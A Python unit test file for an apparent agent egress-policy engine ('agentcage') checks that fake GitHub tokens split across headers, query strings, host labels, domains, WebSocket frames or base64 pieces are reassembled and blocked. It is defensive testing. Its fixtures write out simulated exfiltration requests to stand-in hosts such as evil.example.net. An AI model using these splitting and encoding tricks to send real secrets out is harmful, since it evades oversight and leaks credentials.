"""A credential format sent in pieces is reassembled, and ordinary traffic never is."""

from __future__ import annotations

import base64
import json
import urllib.parse

from bench.exfil.benign import benign_cases
from bench.exfil.world import make_secrets

from agentcage.policy.engine import Policy
from agentcage.policy.types import Frame, Headers, Request, Verdict
from tests.unit.policy.helpers import ALNUM, fake, policy

GITHUB = "gh" + "p_" + fake(ALNUM, 36)
OPEN = {"domains": {"mode": "blocklist", "list": []}, "entropy": False, "content_type": False}


def _get(
    host: str, path: str = "/", headers: tuple[tuple[str, str], ...] = (), flow: str = ""
) -> Request:
    return Request("GET", "https", host, 443, path, Headers(headers), b"", flow_id=flow)


def _pieces(value: str, size: int) -> list[str]:
    return [value[i : i + size] for i in range(0, len(value), size)]


def _verdicts(engine: Policy, requests: list[Request]) -> list[Verdict]:
    return [engine.check_request(r).verdict for r in requests]


def test_pieces_in_several_headers_of_one_request() -> None:
    headers = tuple((f"x-trace-{n}", piece) for n, piece in enumerate(_pieces(GITHUB, 10)))
    decision = policy(**OPEN).check_request(_get("evil.example.net", headers=headers, flow="f1"))
    assert decision.verdict is Verdict.BLOCK
    assert decision.rules == ("github_token", "assembled")
    assert "assembled from 4 pieces" in decision.reason


def test_five_character_query_pieces_to_one_site_block_the_completing_one() -> None:
    engine = policy(**OPEN)
    requests = [
        _get("evil.example.net", f"/c?i={n}&d={piece}", flow=f"flow-{n}")
        for n, piece in enumerate(_pieces(GITHUB, 5))
    ]
    decisions = [engine.check_request(r) for r in requests]
    # Blocked as soon as the pieces make a token (30 characters after `ghp_`).
    blocked = next(n for n, d in enumerate(decisions) if d.verdict is Verdict.BLOCK)
    assert blocked == 6 and all(d.verdict is Verdict.ALLOW for d in decisions[:blocked])
    assert "flow-0" in decisions[blocked].reason
    assert f"flow-{blocked}" in decisions[blocked].reason


def test_four_character_pieces_cut_through_the_anchor() -> None:
    engine = policy(**OPEN)
    requests = [_get("evil.example.net", f"/c?d={piece}") for piece in _pieces(GITHUB, 4)]
    verdicts = _verdicts(engine, requests)
    assert verdicts[:8] == [Verdict.ALLOW] * 8  # 28 characters: no token yet
    assert verdicts[8] is Verdict.BLOCK


def test_pieces_as_host_labels_and_over_several_domains() -> None:
    labels = [
        _get(f"{piece.lower()}.n{n}.evil.example")
        for n, piece in enumerate(_pieces(GITHUB.lower(), 8))
    ]
    assert _verdicts(policy(**OPEN), labels)[-1] is Verdict.BLOCK
    domains = [
        _get(f"collect.evil{n}.example", f"/p/{piece}")
        for n, piece in enumerate(_pieces(GITHUB, 14))
    ]
    assert _verdicts(policy(**OPEN), domains)[-1] is Verdict.BLOCK


def test_pieces_over_websocket_messages() -> None:
    engine = policy(**OPEN)
    first, second = GITHUB[:18], GITHUB[18:]
    frames = [
        Frame("evil.example.net", 443, "/ws", f"part1: {first}".encode(), True),
        Frame("evil.example.net", 443, "/ws", json.dumps({"part": second}).encode(), True),
    ]
    assert [engine.check_frame(f).verdict for f in frames] == [Verdict.ALLOW, Verdict.BLOCK]


def test_a_key_sent_whole_to_its_home_is_not_assembled_against_it() -> None:
    engine = policy(**OPEN)
    requests = [_get("api.github.com", f"/c?d={piece}") for piece in _pieces(GITHUB, 8)]
    assert _verdicts(engine, requests) == [Verdict.ALLOW] * len(requests)


def test_a_whole_example_value_does_not_start_an_assembly() -> None:
    engine = policy(**OPEN)
    texts = ["STRIPE_KEY=sk" + "_live_" + "0" * 24, "cache-key-" + fake("0123456789abcdef", 32)]
    for text in texts:
        body = json.dumps({"messages": [{"role": "user", "content": text}]}).encode()
        request = Request("POST", "https", "evil.example.net", 443, "/", Headers(), body)
        assert engine.check_request(request).verdict is Verdict.ALLOW, text


def test_a_key_too_short_sent_whole_is_not_completed_by_what_follows() -> None:
    engine = policy(**OPEN)
    # A token one short of the format (an example in a README), then ordinary values.
    texts = ["gh" + "p_" + fake(ALNUM, 26), "webhook", "Release2026", "a1b2c3d4e5"]
    requests = [_get("evil.example.net", f"/c?d={text}") for text in texts]
    assert _verdicts(engine, requests) == [Verdict.ALLOW] * len(texts)


def test_an_anchor_and_too_little_after_it_is_no_key() -> None:
    engine = policy(**OPEN)
    pieces = ["ghp_", fake(ALNUM, 12), fake(ALNUM, 12, seed=2)]
    requests = [_get("evil.example.net", f"/c?d={piece}") for piece in pieces]
    assert _verdicts(engine, requests) == [Verdict.ALLOW] * 3


def test_the_benign_corpus_through_one_policy_assembles_nothing() -> None:
    engine = policy(**OPEN)
    for case in benign_cases(make_secrets(11), seed=11, reps=2):
        for step in case.steps:
            request = Request(
                step.method, "https", step.host, 443, step.path, Headers(step.headers), step.body
            )
            decision = engine.check_request(request)
            assert "assembled" not in decision.rules, (case.id, decision.reason)


def _b64_pieces(text: bytes, size: int, urlsafe: bool = False) -> list[str]:
    encode = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    return _pieces(encode(text).decode(), size)


def test_a_key_base64_encoded_then_cut_is_decoded_and_assembled() -> None:
    for urlsafe in (False, True):
        engine = policy(**OPEN)
        pieces = _b64_pieces(GITHUB.encode(), 12, urlsafe)
        requests = [
            _get("evil.example.net", f"/c?i={n}&d={urllib.parse.quote(p, safe='')}", flow=f"b{n}")
            for n, p in enumerate(pieces)
        ]
        decisions = [engine.check_request(r) for r in requests]
        blocked = [n for n, d in enumerate(decisions) if d.verdict is Verdict.BLOCK]
        assert blocked and blocked[0] >= 3, decisions  # 36 base64 characters: `ghp_` + 23
        assert decisions[blocked[0]].rules == ("github_token", "assembled")
        assert "b0" in decisions[blocked[0]].reason


def test_base64_pieces_of_ordinary_text_assemble_nothing() -> None:
    engine = policy(**OPEN)
    texts = [
        b"ghp_ is the prefix of a GitHub personal access token, see the docs",
        b"sk-learn-pipeline-overview and estimators, chapter one of three",
        ("AKIA" + "x" * 40).encode(),  # the anchor, then filler: no key
    ]
    for n, text in enumerate(texts):
        for piece in _b64_pieces(text, 12):
            request = _get(f"site{n}.example.net", f"/c?d={urllib.parse.quote(piece, safe='')}")
            assert engine.check_request(request).verdict is Verdict.ALLOW


def test_a_whole_base64_key_is_the_scanners_not_an_assembly() -> None:
    whole = base64.b64encode(GITHUB.encode()).decode()
    decision = policy(**OPEN).check_request(_get("evil.example.net", f"/c?d={whole}"))
    assert decision.verdict is Verdict.BLOCK and "assembled" not in decision.rules
